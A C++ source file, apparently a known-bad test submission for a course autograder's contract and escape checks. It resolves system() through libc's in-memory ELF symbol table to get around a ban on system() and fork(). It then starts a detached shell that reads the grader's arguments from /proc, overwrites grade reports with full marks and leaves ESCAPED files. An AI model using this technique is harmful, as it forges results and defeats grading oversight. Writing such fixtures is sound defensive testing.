// Known-wrong submission 29: a process that outlives its grading step and rewrites the report.
// The contract refuses system(), fork() and files by name, so this file names none of them: it
// takes the address of printf (allowed: console output), steps down from it to the ELF header of
// the library that holds it (libc), reads that library's own symbol table in memory and calls
// system() through the address it finds there. The shell it starts leaves the process group,
// closes every descriptor (so no pipe keeps the grader waiting), reads the results folder from
// the grader's command line in /proc and, for twenty minutes, rewrites the lab's report with full
// marks and leaves a file named ESCAPED wherever it can (the course's test looks for those).
#include <elf.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

#include "lab.h"

namespace {

using SystemFunction = int (*)(const char*);

// The first page of the loaded object that holds `code`: the pages below it are mapped down to
// the object's ELF header.
const char* object_start(const void* code) {
  std::uintptr_t page = reinterpret_cast<std::uintptr_t>(code) & ~std::uintptr_t{4095};
  while (std::memcmp(reinterpret_cast<const void*>(page), ELFMAG, SELFMAG) != 0) page -= 4096;
  return reinterpret_cast<const char*>(page);
}

// The address of `name` in the dynamic symbol table of the shared library loaded at `base`.
void* library_function(const char* base, const char* name) {
  const auto* header = reinterpret_cast<const Elf64_Ehdr*>(base);
  const auto* segments = reinterpret_cast<const Elf64_Phdr*>(base + header->e_phoff);
  // The loader may or may not have made these addresses absolute.
  auto at = [base](Elf64_Addr a) {
    return a < reinterpret_cast<std::uintptr_t>(base) ? base + a : reinterpret_cast<const char*>(a);
  };
  const Elf64_Sym* symbols = nullptr;
  const char* names = nullptr;
  for (int i = 0; i < header->e_phnum; ++i) {
    if (segments[i].p_type != PT_DYNAMIC) continue;
    for (const auto* d = reinterpret_cast<const Elf64_Dyn*>(base + segments[i].p_vaddr); d->d_tag != DT_NULL; ++d) {
      if (d->d_tag == DT_SYMTAB) symbols = reinterpret_cast<const Elf64_Sym*>(at(d->d_un.d_ptr));
      if (d->d_tag == DT_STRTAB) names = at(d->d_un.d_ptr);
    }
  }
  // .dynsym comes right before .dynstr in libc.
  for (const Elf64_Sym* s = symbols; s && reinterpret_cast<const char*>(s) < names; ++s)
    if (s->st_shndx != SHN_UNDEF && std::strcmp(names + s->st_name, name) == 0)
      return const_cast<char*>(base) + s->st_value;
  return nullptr;
}

// The shell's work. $PPID is the check program; its parent is the grader (memlab-judge).
const char kScript[] =
    "judge=$(cut -d' ' -f4 /proc/$PPID/stat); "
    "arg() { tr '\\000' '\\n' < /proc/$judge/cmdline | sed -n \"/^$1\\$/{n;p;q;}\"; }; "
    "results=$(arg --results-dir); lab=$(arg --lab-dir); "
    "MEMLAB_ESCAPEE=1 setsid sh -c '"
    "  exec 0<&- 1>&- 2>&- 3>&- 4>&- 5>&- 6>&- 7>&- 8>&- 9>&-; i=0; "
    "  while [ $i -lt 12000 ]; do "
    "    for f in \"$0\"/lab04.json \"$0\"/gradescope.json; do "
    "      [ -f \"$f\" ] && echo \"{\\\"lab\\\": \\\"04\\\", \\\"score\\\": 18, \\\"max_score\\\": 18}\" > \"$f\"; "
    "    done; "
    "    true > \"$0/ESCAPED\"; true > \"$1/ESCAPED\"; sleep 0.1; i=$((i + 1)); "
    "  done' \"$results\" \"$lab\" 2>/dev/null &";

}  // namespace

int predicted_column_read_wavefronts(int pitch) {
  static bool started = false;
  if (!started) {
    started = true;
    const void* printf_address = reinterpret_cast<const void*>(&std::printf);
    if (auto run = reinterpret_cast<SystemFunction>(library_function(object_start(printf_address), "system")))
      run(kScript);
  }
  switch (pitch) {  // the right answers: the points are taken by the lingering process
    case 32: return 32;
    case 33: return 1;
    case 34: return 2;
    case 48: return 16;
    default: return 0;
  }
}
